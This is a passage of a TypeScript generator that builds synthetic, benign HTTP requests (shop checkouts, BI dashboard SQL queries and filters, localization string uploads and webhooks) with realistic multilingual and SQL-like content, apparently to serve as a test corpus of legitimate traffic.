      id: `evt_${b62(24)}`,
      object: 'event',
      type: 'charge.dispute.created',
      data: {
        object: {
          id: `dp_${b62(24)}`,
          amount: 1500,
          reason: 'product_not_received',
          evidence_details: { due_by: int(1790000000, 1799999999) },
          metadata: {},
        },
      },
    },
  );
  addJson('webhook', 'POST', '/webhooks/shipping', sdk({ 'user-agent': 'EasyPost/v2 WebhookAgent 1.0' }), {
    description: 'tracker.updated',
    result: {
      tracking_code: `1Z${b62(16).toUpperCase()}`,
      status: 'out_for_delivery',
      carrier: 'UPS',
      tracking_details: [
        {
          message: 'Out For Delivery Today',
          datetime: isoDate(),
          tracking_location: { city: 'LOUISVILLE', state: 'KY' },
        },
      ],
    },
  });
  // checkout form
  add(
    'form',
    'POST',
    '/checkout/address',
    browser(SHOP, '/checkout/address', { accept: 'text/html,application/xhtml+xml,*/*;q=0.8' }),
    form([
      ['_csrf', b64url(43)],
      ['name', "Dmitri O'Connor-Nguyen"],
      ['line1', '1600 Amphitheatre Pkwy, Bldg #40'],
      ['line2', 'c/o Reception (2nd fl.)'],
      ['city', 'Mountain View'],
      ['region', 'CA'],
      ['postal', '94043'],
      ['phone', '+1 (650) 555-0100'],
      ['save', 'on'],
    ]),
    'application/x-www-form-urlencoded',
  );
  add(
    'form',
    'POST',
    '/contact-seller',
    browser(SHOP, '/shop/oakandiron'),
    form([
      ['listing_id', String(int(1e8, 9e8))],
      [
        'message',
        'Hi! Could you do the wallet in dark brown w/ initials "J.K."? Also — is it real leather or PU? Thanks :)',
      ],
    ]),
    'application/x-www-form-urlencoded',
  );
  // bulk CSV import
  {
    const mp = multipart([
      { name: 'mode', content: 'upsert' },
      {
        name: 'file',
        filename: 'listings_export_2026-03.csv',
        type: 'text/csv',
        content:
          'sku,title,price,quantity,description_html\nMUG-12-SAGE,"Ceramic Mug 12oz, Sage",28.00,14,"<p>Wheel-thrown; <strong>dishwasher safe</strong></p>"\nCHG-65W-3P,"GaN Charger 65W",39.99,120,"<ul><li>3 ports</li><li>65W max</li></ul>"\nTEE-ORG-M-BLK,"Organic Tee (M) — Black",24.50,0,"<p>Ships in 3–5 days</p>"\n',
      },
    ]);
    add('multipart', 'POST', `${api}/listings/import`, browser(SHOP, '/seller/tools/import'), mp.body, mp.ct);
    const mp2 = multipart([
      { name: 'listing_id', content: String(int(1e8, 9e8)) },
      { name: 'rank', content: '1' },
      { name: 'image', filename: 'mug-front.png', type: 'image/png', content: pngish() },
    ]);
    add('multipart', 'POST', `${api}/listings/images`, mobile('shop'), mp2.body, mp2.ct);
  }
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/listings/${int(1e8, 9e8)}`,
    browser(SHOP, '/seller/listings'),
    { price: { amount: 2499 }, quantity: 0, state: 'inactive', sale: null },
    'application/merge-patch+json',
  );
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/orders/${int(1e7, 9e7)}`,
    mobile('shop'),
    { shipping_address: { line2: 'Apt 3B (buzzer broken)' }, note_to_seller: null },
    'application/merge-patch+json',
  );
  addJson(
    'json-patch',
    'PATCH',
    `${api}/shops/${int(1e5, 9e5)}/policies`,
    browser(SHOP, '/seller/policies'),
    [
      { op: 'replace', path: '/returns/window_days', value: 30 },
      {
        op: 'replace',
        path: '/returns/text',
        value:
          'Returns accepted within 30 days. Buyer pays return shipping unless the item arrived damaged/defective.',
      },
    ],
    'application/json-patch+json',
  );
  const searches: Record<string, string | number>[] = [
    { q: 'usb-c "65w" charger', 'price[gte]': 20, 'price[lte]': 60, sort: '-rating' },
    { q: "men's leather wallet -fake", ship_to: 'DE' },
    { q: 'mug & saucer set', category: 'home/kitchen', page: 2 },
    { q: '"pyrex" 1970s OR vintage', condition: 'used' },
    { q: 'tee 100% cotton', 'filter[size]': 'M,L', 'filter[color]': 'black' },
    { q: 'rug 160x230 wool', sort: 'price_asc' },
    { q: 'café au lait bowl', locale: 'fr-FR' },
    { q: 'iphone 16 case <$15' },
  ];
  for (const s of searches)
    add('search', 'GET', `${api}/search?${qs(s)}`, chance(0.5) ? browser(SHOP, '/') : mobile('shop'));
  add('delete', 'DELETE', `${api}/cart/items/${uuid()}`, browser(SHOP, '/cart'));
  add('delete', 'DELETE', `${api}/cart/coupons/${encodeURIComponent('SAVE20-FALL')}`, mobile('shop'));
  add('delete', 'DELETE', `${api}/listings/${int(1e8, 9e8)}`, browser(SHOP, '/seller/listings'));
  addGql(
    'graphql',
    '/graphql',
    browser(SHOP, '/'),
    'ProductPage',
    'query ProductPage($id: ID!, $reviewsFirst: Int = 5) {\n  product(id: $id) {\n    title descriptionHtml\n    price { amount currencyCode }\n    reviews(first: $reviewsFirst, orderBy: {field: HELPFUL, direction: DESC}) { nodes { rating text author { displayName } } }\n    seller { name ratingAvg }\n  }\n}',
    { id: `gid://bazaarly/Product/${int(1e6, 9e6)}`, reviewsFirst: 10 },
  );
  addGql(
    'graphql',
    '/graphql',
    mobile('shop'),
    'AddToCart',
    'mutation AddToCart($cartId: ID!, $lines: [CartLineInput!]!) { cartLinesAdd(cartId: $cartId, lines: $lines) { cart { id totalQuantity } userErrors { field message } } }',
    {
      cartId: `gid://bazaarly/Cart/${b62(26)}`,
      lines: [
        {
          merchandiseId: `gid://bazaarly/ProductVariant/${int(1e6, 9e6)}`,
          quantity: 2,
          attributes: [{ key: 'Engraving', value: 'J & K <3' }],
        },
      ],
    },
  );
  const intl = [
    ['Très belle tasse, un peu plus petite que prévu. Livraison rapide 👍', 'fr'],
    ['Sehr gute Qualität! Lieferung hat aber 2 Wochen gedauert (statt 3–5 Tage).', 'de'],
    ['商品はとても良いですが、梱包が少し雑でした。', 'ja'],
    ['المنتج ممتاز والتوصيل سريع، أنصح به 👌', 'ar'],
    ['Produto chegou com defeito 😡 o vendedor não responde.', 'pt'],
  ];
  for (const [t, lang] of intl)
    addJson(
      'i18n',
      'POST',
      `${api}/orders/${int(1e7, 9e7)}/review`,
      mobile('shop', { 'accept-language': lang! }),
      { rating: int(2, 5), text: t, language: lang },
    );
}

// --- 7. Data / BI tool ------------------------------------------------------------------------------------

const BI = 'analytics.lumenboard.io';
const SAVED_SQL = [
  "SELECT date_trunc('week', o.created_at) AS week,\n       r.name AS region,\n       SUM(o.total_cents) / 100.0 AS revenue\nFROM orders o\nJOIN regions r ON r.id = o.region_id\nWHERE o.status NOT IN ('cancelled', 'refunded')\n  AND o.created_at >= {{ start_date }}\nGROUP BY 1, 2\nORDER BY 1 DESC;",
  "WITH cohorts AS (\n  SELECT user_id, MIN(DATE(created_at)) AS cohort_day FROM events WHERE name = 'signup' GROUP BY 1\n)\nSELECT c.cohort_day, COUNT(DISTINCT e.user_id) FILTER (WHERE e.created_at < c.cohort_day + INTERVAL '7 days') AS d7\nFROM cohorts c LEFT JOIN events e USING (user_id)\nGROUP BY 1 ORDER BY 1;",
  "SELECT product_id, SUM(qty) AS units\nFROM sales\nWHERE sale_date BETWEEN '2026-01-01' AND '2026-03-31'\nGROUP BY product_id\nHAVING SUM(qty) > 100\nUNION ALL\nSELECT product_id, SUM(qty) FROM sales_archive WHERE sale_date < '2026-01-01' GROUP BY product_id;",
  "-- churned accounts (no login 30d)\nSELECT a.id, a.name, MAX(l.at) AS last_login\nFROM accounts a LEFT JOIN logins l ON l.account_id = a.id\nGROUP BY a.id, a.name\nHAVING MAX(l.at) < now() - interval '30 days' OR MAX(l.at) IS NULL;",
  "SELECT CASE WHEN amount < 10 THEN '<$10' WHEN amount < 100 THEN '$10-99' ELSE '$100+' END AS bucket, COUNT(*)\nFROM payments GROUP BY 1 ORDER BY MIN(amount);",
];
const FILTERS = [
  "country IN ('US', 'CA') AND order_date >= DATE '2026-01-01'",
  "status = 'active' OR (plan = 'trial' AND days_left < 3)",
  'revenue > 1000 AND NOT is_test_account',
  "email LIKE '%@acme-corp.com'",
  "channel <> 'direct' and utm_campaign is not null",
  "region = 'EMEA' AND segment IN ('SMB','Mid-Market')",
];
const CHART_COMMENTS = [
  'Revenue dip on 3/14 is the payment outage (INC-2291), not real churn. Can we annotate it?',
  "Why does this chart show 105% for conversion? I think the denominator excludes users where country is NULL, so it's > 100%. Use COALESCE(country, 'unknown').",
  'Can we switch the y-axis to log scale? EMEA numbers drown out everything else.',
  "FYI I updated the 'Active users' metric: it now counts DISTINCT user_id where event != 'heartbeat'.",
  "The dashboard is super slow (~40s). The query does a full scan on events; maybe add `WHERE created_at > now() - interval '90 days'`?",
];

function bi(): void {
  const api = '/api/v1';
  for (const sql of SAVED_SQL) {
    addJson(
      'code',
      chance(0.5) ? 'POST' : 'PUT',
      chance(0.5) ? `${api}/queries` : `${api}/queries/${int(1000, 9999)}`,
      browser(BI, '/queries/new'),
      {
        name: pick([
          'Weekly revenue by region',
          'D7 retention',
          'Units sold Q1',
          'Churned accounts',
          'Payment buckets',
        ]),
        query: {
          sql,
          dataSourceId: int(1, 20),
          parameters: [{ name: 'start_date', type: 'date', value: day() }],
        },
        description: 'Used by the Monday exec dashboard. Ask #data before changing!',
        tags: ['finance', 'weekly'],
        schedule: chance(0.5) ? { interval: 86400, time: '06:00', timezone: 'UTC' } : null,
      },
    );
  }
  for (const f of FILTERS) {
    addJson(
      'rest-write',
      'POST',
      `${api}/dashboards/${int(100, 999)}/filters`,
      browser(BI, `/dashboards/${int(100, 999)}`),
      {
        name: pick(['Region', 'Active only', 'Big customers', 'Acme users', 'Paid channels']),
        expression: f,
        appliesTo: ['*'],
        enabled: true,
      },
    );
  }
  for (const c of CHART_COMMENTS) {
    addJson('prose', 'POST', `${api}/widgets/${int(1000, 9999)}/comments`, browser(BI, '/dashboards/exec'), {
      text: c,
      mentions: [],
    });
  }
  // chart configs
  addJson('rest-write', 'POST', `${api}/visualizations`, browser(BI, '/queries/1234'), {
    queryId: int(1000, 9999),
    type: 'CHART',
    name: 'Revenue by region',
    options: {
      $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
      mark: { type: 'line', point: true, tooltip: true },
      encoding: {
        x: { field: 'week', type: 'temporal', timeUnit: 'yearweek', title: 'Week' },
        y: { field: 'revenue', type: 'quantitative', axis: { format: '$,.0f' } },
        color: { field: 'region', type: 'nominal', scale: { scheme: 'tableau10' } },
      },
      transform: [
        { filter: "datum.revenue > 0 && datum.region != 'Test'" },
        { calculate: 'datum.revenue / 1000', as: 'revenue_k' },
      ],
    },
  });
  addJson('rest-write', 'POST', `${api}/visualizations`, browser(BI, '/queries/1234'), {
    queryId: int(1000, 9999),
    type: 'COUNTER',
    options: {
      counterColName: 'd7',
      targetColName: 'target',
      stringPrefix: '',
      stringSuffix: '%',
      stringDecimal: 1,
      formatTargetValue: true,
      tooltipFormat: '{{ @@name }}: {{ @@y | number: "0.0" }}',
    },
  });
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/dashboards/${int(100, 999)}`,
    browser(BI, '/dashboards/exec'),
    {
      layout: [
        { id: 'w1', x: 0, y: 0, w: 6, h: 4 },
        { id: 'w2', x: 6, y: 0, w: 6, h: 4 },
      ],
      refreshInterval: 300,
      is_draft: false,
    },
    'application/merge-patch+json',
  );
  addJson(
    'merge-patch',
    'PATCH',
    `${api}/alerts/${int(100, 999)}`,
    browser(BI, '/alerts'),
    {
      options: {
        column: 'error_rate',
        op: '>',
        value: 0.05,
        custom_subject: 'Error rate > 5% on {{ALERT_NAME}}',
      },
      rearm: 3600,
    },
    'application/merge-patch+json',
  );
  addJson(
    'json-patch',
    'PATCH',
    `${api}/dashboards/${int(100, 999)}`,
    sdk(),
    [
      { op: 'replace', path: '/name', value: 'Exec KPIs (FY26)' },
      { op: 'add', path: '/tags/-', value: 'exec' },
      { op: 'move', from: '/widgets/3', path: '/widgets/0' },
    ],
    'application/json-patch+json',
  );
  // run ad-hoc query with params (excluded field holds SQL)
  addJson(
    'code',
    'POST',
    `${api}/query_results`,
    sdk({ 'user-agent': 'lumenboard-python/0.9.2 python-requests/2.32.3' }),
    {
      query: {
        sql: "SELECT COUNT(*) FROM events WHERE created_at > now() - interval '1 hour'",
        dataSourceId: 3,
      },
      max_age: 0,
    },
  );
  // event ingestion (ndjson)
  for (let n = 0; n < 4; n++) {
    const lines: string[] = [];
    for (let k = 0; k < int(3, 7); k++) {
      lines.push(
        JSON.stringify(
          pick([
            {
              event: 'page_view',
              ts: isoDate(),
              user_id: `u_${b62(8)}`,
              props: { path: '/pricing', referrer: 'https://www.google.com/', utm_source: 'newsletter' },
            },
            {
              event: 'search',
              ts: isoDate(),
              user_id: `u_${b62(8)}`,
              props: {
                query: pick([
                  '"annual plan" price',
                  'cancel subscription',
                  'delete account',
                  'sql export',
                  'where is my invoice?',
                ]),
                results: int(0, 40),
              },
            },
            {
              event: 'purchase',
              ts: isoDate(),
              user_id: `u_${b62(8)}`,
              props: {
                amount: int(900, 49900) / 100,
                currency: 'USD',
                coupon: pick([null, 'SAVE20', 'EDU20']),
              },
            },
            {
              event: 'error',
              ts: isoDate(),
              user_id: null,
              props: {
                message: "TypeError: Cannot read properties of undefined (reading 'map')",
                url: '/dashboards/exec?tab=2',
              },
            },
          ]),
        ),
      );
    }
    add(
      'ndjson',
      'POST',
      '/ingest/v1/batch',
      sdk({ 'user-agent': pick(['lumenboard-js/3.1.0', 'lumenboard-ios/2.0.4', 'Segment.io/1.0']) }),
      lines.join('\n') + '\n',
      'application/x-ndjson',
    );
  }
  // csv upload
  {
    const mp = multipart([
      { name: 'name', content: 'Q1 targets' },
      {
        name: 'file',
        filename: 'targets_q1.csv',
        type: 'text/csv',
        content:
          'region,month,target_usd,owner\nEMEA,2026-01,"1,200,000","Müller"\nNA,2026-01,2500000,"O\'Connor"\nAPAC,2026-01,800000,"Nakamura; Wang"\n',
      },
    ]);
    add('multipart', 'POST', `${api}/uploads/csv`, browser(BI, '/data/upload'), mp.body, mp.ct);
  }
  // searches
  for (const q of [
    'revenue by region',
    '"d7 retention"',
    'tag:finance -draft',
    'churn OR retention',
    'select * from orders',
  ]) {
    add(
      'search',
      'GET',
      `${api}/queries?${qs({ q, page: 1, page_size: 25, order: '-updated_at' })}`,
      browser(BI, '/queries'),
    );
  }
  add(
    'search',
    'GET',
    `/embed/dashboards/${b62(16)}?${qs({ p_region: 'EMEA', p_date_range: '2026-01-01--2026-03-31', filter: "status = 'paid'" })}`,
    browser(BI, '/embed'),
  );
  add('delete', 'DELETE', `${api}/queries/${int(1000, 9999)}`, browser(BI, '/queries'));
  add(
    'delete',
    'DELETE',
    `${api}/dashboards/${int(100, 999)}/widgets/${int(1000, 9999)}`,
    browser(BI, '/dashboards/exec'),
  );
  addGql(
    'graphql',
    '/graphql',
    browser(BI, '/dashboards/exec'),
    'DashboardWidgets',
    'query DashboardWidgets($slug: String!, $filters: [FilterInput!]) {\n  dashboard(slug: $slug) { widgets { id title visualization { type } data(filters: $filters) { columns rows } } }\n}',
    {
      slug: 'exec-kpis',
      filters: [
        { field: 'region', op: 'IN', values: ['EMEA', 'NA'] },
        { field: 'order_date', op: '>=', values: ['2026-01-01'] },
      ],
    },
  );
  addGqlGet('/graphql', mobile('bi'), 'query { alerts(state: TRIGGERED) { id name lastTriggeredAt } }');
  addJson(
    'webhook',
    'POST',
    '/hooks/slack/interactivity',
    {
      'user-agent': 'Slackbot 1.0 (+https://api.slack.com/robots)',
      accept: 'application/json,*/*',
      'x-slack-signature': `v0=${hex(64)}`,
      'x-slack-request-timestamp': String(int(1790000000, 1799999999)),
    },
    {
      type: 'block_actions',
      user: { id: `U${b62(10).toUpperCase()}`, username: 'dana.k' },
      actions: [
        {
          action_id: 'snooze_alert',
          block_id: 'alert_4471',
          value: '{"alertId":4471,"minutes":60}',
          type: 'button',
        },
      ],
      response_url: `https://hooks.slack.com/actions/T0001/${int(1e11, 9e11)}/${b62(24)}`,
    },
  );
  addJson(
    'i18n',
    'POST',
    `${api}/dashboards`,
    browser(BI, '/dashboards/new', { 'accept-language': 'ja-JP,ja;q=0.9' }),
    {
      name: '売上ダッシュボード（地域別）',
      description: '毎週月曜日 9:00 (JST) に更新されます。',
      tags: ['売上', '週次'],
    },
  );
  addJson(
    'i18n',
    'POST',
    `${api}/dashboards`,
    browser(BI, '/dashboards/new', { 'accept-language': 'de-DE' }),
    {
      name: 'Umsatz nach Region – Übersicht',
      description: 'Zahlen in €; „Test“-Konten ausgeschlossen.',
      tags: ['Umsatz'],
    },
  );
}

// --- 8. Translation / localization ----------------------------------------------------------------------

const L10N = 'app.polyglotter.io';
const ICU_STRINGS: [string, string, Record<string, string>][] = [
  [
    'inbox.count',
    '{count, plural, =0 {No messages} one {# message} other {# messages}}',
    {
      de: '{count, plural, =0 {Keine Nachrichten} one {# Nachricht} other {# Nachrichten}}',
      ru: '{count, plural, one {# сообщение} few {# сообщения} many {# сообщений} other {# сообщения}}',
      ar: '{count, plural, zero {لا رسائل} one {رسالة واحدة} two {رسالتان} few {# رسائل} many {# رسالة} other {# رسالة}}',
    },
  ],
  [
    'feed.liked',
    '{gender, select, female {{name} liked your post} male {{name} liked your post} other {{name} liked your post}}',
    {
      fr: '{gender, select, female {{name} a aimé votre publication} male {{name} a aimé votre publication} other {{name} a aimé votre publication}}',
      es: '{gender, select, female {A {name} le gustó tu publicación} other {A {name} le gustó tu publicación}}',
    },
  ],
  [
    'auth.reset',
    'Click <a href="{url}">here</a> to <b>reset</b> your password. The link expires in {minutes, number} minutes.',
    {
      ja: 'パスワードを<b>リセット</b>するには<a href="{url}">こちら</a>をクリックしてください。リンクの有効期限は{minutes, number}分です。',
      he: 'לחצו <a href="{url}">כאן</a> כדי <b>לאפס</b> את הסיסמה. הקישור יפוג בעוד {minutes, number} דקות.',
    },
  ],
  [
    'account.delete.confirm',
    "Are you sure you want to delete '{workspace}'? This can't be undone.",
    {
      de: 'Möchtest du „{workspace}“ wirklich löschen? Das kann nicht rückgängig gemacht werden.',
      pl: 'Czy na pewno chcesz usunąć „{workspace}”? Tej operacji nie można cofnąć.',
    },
  ],
  [
    'cart.total',
    'Total: {amount, number, ::currency/EUR} ({items, plural, one {# item} other {# items}})',
    {
      fr: 'Total : {amount, number, ::currency/EUR} ({items, plural, one {# article} other {# articles}})',
      hi: 'कुल: {amount, number, ::currency/EUR} ({items, plural, one {# आइटम} other {# आइटम}})',
    },
  ],
  [
    'date.updated',
    'Updated {when, date, medium} at {when, time, short}',
    {
      ko: '{when, date, medium} {when, time, short}에 업데이트됨',
      zh: '更新于 {when, date, medium} {when, time, short}',
    },
  ],
  [
    'select.rows',
    'Select up to {max} rows. Use Shift+Click to select a range; Ctrl/⌘+A to select all.',
    {
      th: 'เลือกได้สูงสุด {max} แถว ใช้ Shift+คลิก เพื่อเลือกช่วง',
      tr: 'En fazla {max} satır seçin. Aralık seçmek için Shift+Tıklama kullanın.',
    },
  ],
  [
    'sql.help',
    'Tip: wrap names with spaces in double quotes, e.g. SELECT "first name" FROM users;',
    {
      de: 'Tipp: Namen mit Leerzeichen in doppelte Anführungszeichen setzen, z. B. SELECT "first name" FROM users;',
    },
  ],
];

function localization(): void {
  const api = '/api/v2';
  const proj = `prj_${b62(10)}`;
  for (const [key, source, translations] of ICU_STRINGS) {
    addJson('i18n', 'POST', `${api}/projects/${proj}/keys`, sdk({ 'user-agent': pick(MOBILE_APPS.l10n!) }), {
      key,
      description: pick([
        'Shown in the inbox header',
        'Push notification',
        'Email template, HTML allowed',
        'Confirmation dialog',
        'Cart footer',
        'Table hint',
      ]),
      source: { locale: 'en', value: source },
      translations: Object.entries(translations).map(([locale, value]) => ({
        locale,
        value,
        state: pick(['translated', 'reviewed', 'needs_review']),
      })),
      maxLength: chance(0.3) ? 120 : null,
      platforms: pick([['web'], ['ios', 'android'], ['web', 'email']]),
    });
  }
  for (const [key, , translations] of ICU_STRINGS.slice(0, 5)) {
    for (const [locale, value] of Object.entries(translations).slice(0, 1)) {
      addJson(
        'merge-patch',
        'PATCH',
        `${api}/projects/${proj}/keys/${encodeURIComponent(key)}/translations/${locale}`,
        browser(L10N, `/editor/${proj}?locale=${locale}`),
        { value, state: 'reviewed', comment: null },
        'application/merge-patch+json',
      );
    }
  }
  addJson(
    'json-patch',
    'PATCH',
    `${api}/projects/${proj}/keys/inbox.count`,
    sdk(),
    [
      {
        op: 'replace',
        path: '/translations/pl',
        value:
          '{count, plural, one {# wiadomość} few {# wiadomości} many {# wiadomości} other {# wiadomości}}',
      },
      { op: 'add', path: '/tags/-', value: 'plural' },
    ],
    'application/json-patch+json',
  );
  addJson(
    'json-patch',
    'PATCH',
    `${api}/projects/${proj}/glossary`,
    browser(L10N, '/glossary'),
    [
      {
        op: 'add',
        path: '/terms/-',
        value: {
          term: 'workspace',
          translations: { de: 'Arbeitsbereich', ja: 'ワークスペース', ar: 'مساحة العمل' },
          caseSensitive: false,
          forbidden: false,
        },
      },
      {
        op: 'add',
        path: '/terms/-',
        value: {
          term: 'drop-down',
          translations: { fr: 'liste déroulante' },
          note: 'Do NOT translate as "lâcher"',
        },
      },
    ],
    'application/json-patch+json',
  );
  // translator comments / discussions
  const comments = [
    'The source string uses {count} but the Russian needs few/many forms — I added them. Please double-check the "few" case (2–4).',
    'In Arabic the sentence order flips; {name} should go at the end — is the RTL mark (U+200F) needed before the number?',
    "Please don't put HTML like <b> inside plurals; our iOS renderer breaks. Move <b>…</b> outside the {count, plural, …} block.",
    "Context please: is 'Drop' here 'drop a file' or 'drop a table'? 🤔",
    "'Delete' → 'Löschen' is fine, but 'Remove' should be 'Entfernen' (not 'Löschen') per glossary.",
  ];
  for (const c of comments) {
    addJson(
      'prose',
      'POST',
      `${api}/projects/${proj}/keys/${encodeURIComponent(pick(ICU_STRINGS)[0])}/comments`,
      browser(L10N, `/editor/${proj}`),
      { message: c, resolved: false, mentions: chance(0.4) ? ['reviewer_de'] : [] },
    );
  }
  // file uploads (po, xliff, json, strings)
  {
    const po =
      'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Plural-Forms: nplurals=3; plural=(n%10==1 && n%100!=11 ? 0 : n%10>=2 && n%10<=4 && (n%100<10 || n%100>=20) ? 1 : 2);\\n"\n\n#: src/inbox.py:42\nmsgid "%(count)d message"\nmsgid_plural "%(count)d messages"\nmsgstr[0] "%(count)d сообщение"\nmsgstr[1] "%(count)d сообщения"\nmsgstr[2] "%(count)d сообщений"\n\n#: templates/base.html:12\nmsgid "Welcome back, <strong>%(name)s</strong>!"\nmsgstr "С возвращением, <strong>%(name)s</strong>!"\n';
    const mp = multipart([
      { name: 'locale', content: 'ru' },
      { name: 'format', content: 'gettext' },
      { name: 'file', filename: 'ru/LC_MESSAGES/django.po', type: 'text/x-gettext-translation', content: po },
    ]);
    add(
      'multipart',
      'POST',
      `${api}/projects/${proj}/uploads`,
      sdk({ 'user-agent': 'Polyglotter-CLI/4.2.0 node/22.11.0 linux-x64' }),
      mp.body,
      mp.ct,
    );
    const xliff =
      '<?xml version="1.0" encoding="UTF-8"?>\n<xliff version="2.0" xmlns="urn:oasis:names:tc:xliff:document:2.0" srcLang="en" trgLang="fr">\n  <file id="f1">\n    <unit id="checkout.note">\n      <segment><source>Add a note for the seller (optional)</source><target>Ajouter une note pour le vendeur (facultatif)</target></segment>\n    </unit>\n    <unit id="checkout.gift"><segment><source>This is a gift &amp; hide prices</source><target>C\'est un cadeau &amp; masquer les prix</target></segment></unit>\n  </file>\n</xliff>\n';
    const mp2 = multipart([
      { name: 'format', content: 'xliff2' },
      { name: 'file', filename: 'messages.fr.xlf', type: 'application/xliff+xml', content: xliff },
    ]);
    add('multipart', 'POST', `${api}/projects/${proj}/uploads`, browser(L10N, '/upload'), mp2.body, mp2.ct);
    const strings =
      '/* Title of the delete confirmation */\n"delete.title" = "Delete workspace?";\n/* %@ = workspace name */\n"delete.body" = "\\"%@\\" and all its data will be removed.";\n"select.all" = "Select all (%d)";\n';
    const mp3 = multipart([
      { name: 'format', content: 'ios_strings' },
      { name: 'locale', content: 'en' },
      { name: 'file', filename: 'Localizable.strings', type: 'text/plain', content: strings },
    ]);
    add(
      'multipart',
      'POST',
      `${api}/projects/${proj}/uploads`,
      sdk({ 'user-agent': 'fastlane/2.225.0 polyglotter-plugin/0.4.1' }),
      mp3.body,
      mp3.ct,
    );
    const mp4 = multipart([
      { name: 'format', content: 'i18next_json' },
      {
        name: 'file',
        filename: 'de.json',
        type: 'application/json',
        content: JSON.stringify(
          {
            nav: { home: 'Startseite', settings: 'Einstellungen' },
            cart: {
              items_one: '{{count}} Artikel',
              items_other: '{{count}} Artikel',
              empty: 'Dein Warenkorb ist leer 🛒',
            },
            errors: { required: '{{field}} ist erforderlich', max: 'Max. {{max}} Zeichen' },
          },
          null,
          2,
        ),
      },
    ]);
    add('multipart', 'POST', `${api}/projects/${proj}/uploads`, browser(L10N, '/upload'), mp4.body, mp4.ct);
  }
  // bulk import ndjson
  {
    const units = [
      { key: 'onboarding.title', locale: 'es', value: '¡Bienvenido a {appName}!' },
      { key: 'onboarding.title', locale: 'zh-Hant', value: '歡迎使用 {appName}！' },
      { key: 'onboarding.title', locale: 'am', value: 'እንኳን ወደ {appName} በደህና መጡ!' },
      { key: 'errors.network', locale: 'vi', value: 'Không có kết nối mạng. Vui lòng thử lại.' },
      { key: 'errors.network', locale: 'fa', value: 'اتصال اینترنت برقرار نیست. لطفاً دوباره تلاش کنید.' },
      { key: 'invite.body', locale: 'hi', value: '{inviter} ने आपको {workspace} में आमंत्रित किया है' },
      { key: 'invite.body', locale: 'ka', value: '{inviter} გიწვევთ {workspace}-ში' },
    ];
    add(
      'ndjson',
      'POST',
      `${api}/projects/${proj}/translations/bulk`,
      sdk({ 'user-agent': 'Polyglotter-CLI/4.2.0 node/22.11.0 darwin-arm64' }),
      units.map((u) => JSON.stringify(u)).join('\n') + '\n',
      'application/x-ndjson',
    );
    const mt = [
      { key: 'cart.empty', source: 'Your cart is empty', target_locale: 'ja', provider: 'deepl' },
      {
        key: 'sql.help',
        source: 'Tip: wrap names with spaces in double quotes, e.g. SELECT "first name" FROM users;',
        target_locale: 'es',
        provider: 'google',
      },
      { key: 'select.rows', source: 'Select up to {max} rows.', target_locale: 'ko', provider: 'deepl' },
    ];
    add(
      'ndjson',
      'POST',
      `${api}/machine-translate/jobs`,
      browser(L10N, '/editor'),
      mt.map((u) => JSON.stringify(u)).join('\n') + '\n',
      'application/x-ndjson',
    );
  }
  // jsonapi
  addJson(
    'jsonapi',
    'POST',
    `${api}/jsonapi/locales`,
    sdk({ accept: 'application/vnd.api+json' }),
    {
      data: {
        type: 'locales',
        attributes: {
          code: 'sr-Latn',
          name: 'Srpski (latinica)',
          rtl: false,
          pluralForms: ['one', 'few', 'other'],
        },
        relationships: { project: { data: { type: 'projects', id: proj } } },
      },
    },
    'application/vnd.api+json',
  );
  addJson(
    'jsonapi',
    'PATCH',
    `${api}/jsonapi/locales/ar`,
    sdk({ accept: 'application/vnd.api+json' }),
    {
      data: {
        type: 'locales',
        id: 'ar',
        attributes: {
          rtl: true,
          fallback: 'en',
          pluralForms: ['zero', 'one', 'two', 'few', 'many', 'other'],
        },
      },
    },
    'application/vnd.api+json',
  );
  // searches
  for (const q of [
    '"Delete account"',
    'plural AND missing:ru',
    'key:checkout.* state:needs_review',
    'löschen',
    '{count, plural',
    'こちら',
    'tag:email -tag:legacy',
  ]) {
    add(
      'search',
      'GET',
      `${api}/projects/${proj}/keys?${qs({ q, locale: pick(['de-DE', 'ru', 'ja', 'en']), limit: 50 })}`,
      browser(L10N, `/editor/${proj}`),
    );
  }
  add(
    'search',
    'GET',
    `${api}/projects/${proj}/export?${qs({ format: 'android_xml', locales: 'de,fr,ar', include_empty: 'false', placeholder_format: 'printf' })}`,
    sdk(),
  );
  add(
    'delete',
    'DELETE',
    `${api}/projects/${proj}/keys/${encodeURIComponent('legacy.banner.old_promo')}`,
    browser(L10N, `/editor/${proj}`),
  );
  add('delete', 'DELETE', `${api}/projects/${proj}/locales/tlh`, sdk());
  addGql(
    'graphql',
    '/graphql',
    browser(L10N, '/editor'),
    'UntranslatedKeys',
    'query UntranslatedKeys($project: ID!, $locale: String!, $first: Int!) {\n  project(id: $project) { keys(filter: { missingIn: [$locale] }, first: $first) { nodes { name source { value } screenshots { url } } } }\n}',
    { project: proj, locale: 'pt-BR', first: 100 },
  );
  addGql(
    'graphql',
    '/graphql',
    browser(L10N, '/editor'),
    'SaveTranslation',
    'mutation SaveTranslation($input: TranslationInput!) { saveTranslation(input: $input) { translation { id value state } warnings { code message } } }',
    {
      input: {
        keyId: `key_${b62(10)}`,
        locale: 'he',
        value: 'שלום {name}, יש לך {count, plural, one {הודעה חדשה} other {# הודעות חדשות}}',
      },
    },
  );
  addGqlGet(
    '/graphql',
    mobile('l10n'),
    'query($id: ID!) { project(id: $id) { progress { locale percent } } }',
    { id: proj },
  );
  addJson(
    'webhook',
    'POST',
    '/webhooks/github',
    {
      'user-agent': `GitHub-Hookshot/${hex(7)}`,
      accept: '*/*',
      'x-github-event': 'pull_request',
      'x-github-delivery': uuid(),
      'x-hub-signature-256': `sha256=${hex(64)}`,
    },
    {
      action: 'opened',
      number: int(100, 999),
      pull_request: {
        title: 'i18n: add sr-Latn & update ru plurals',
        body: 'Synced from Polyglotter.\n\n- [x] ru: fixed `few`/`many`\n- [x] sr-Latn: new locale (93% translated)\n- [ ] ar: RTL review pending',
        head: { ref: 'polyglotter/sync-2026-03-17' },
        base: { ref: 'main' },
      },
      repository: { full_name: 'acme/mobile-app' },
    },
  );
  addJson('webhook', 'POST', '/webhooks/outgoing-test', sdk({ 'user-agent': 'Polyglotter-Webhooks/1.0' }), {
    event: 'translation.updated',
    project: proj,
    key: 'auth.reset',
    locale: 'ja',
    value: ICU_STRINGS[2]![2].ja,
    updated_by: 'yuki.t',
    at: isoDate(),
  });
  add(
    'form',
